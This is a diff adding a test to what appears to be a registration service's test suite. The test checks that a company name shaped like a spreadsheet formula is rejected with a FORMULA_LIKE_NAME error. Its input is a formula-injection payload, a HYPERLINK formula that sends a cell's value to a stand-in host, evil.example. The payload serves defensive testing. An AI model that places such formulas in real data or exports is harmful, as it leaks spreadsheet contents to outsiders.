@@ -67,3 +67,15 @@ async def test_five_megabyte_body_and_deep_nesting_are_rejected_and_service_keep
     ok = await _post(stack, json.dumps(f.enterprise(f.new_uscc())).encode())
     assert ok.status_code == 202
     assert (await client.get(f"{stack.url('registration')}/healthz")).status_code == 200
+
+
+async def test_a_formula_like_name_is_refused_at_intake_with_its_code(stack: Stack) -> None:
+    uscc = f.new_uscc()
+    name = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
+    r = await _post(stack, json.dumps(f.enterprise(uscc, name=name)).encode())
+    assert r.status_code == 422
+    assert r.json() == {
+        "error_code": "FORMULA_LIKE_NAME",
+        "message": f"name {name[:40]!r} begins with '=', which a spreadsheet runs as a formula",
+        "errors": [{"loc": "data.name", "msg": "must not begin with =, +, - or @"}],
+    }
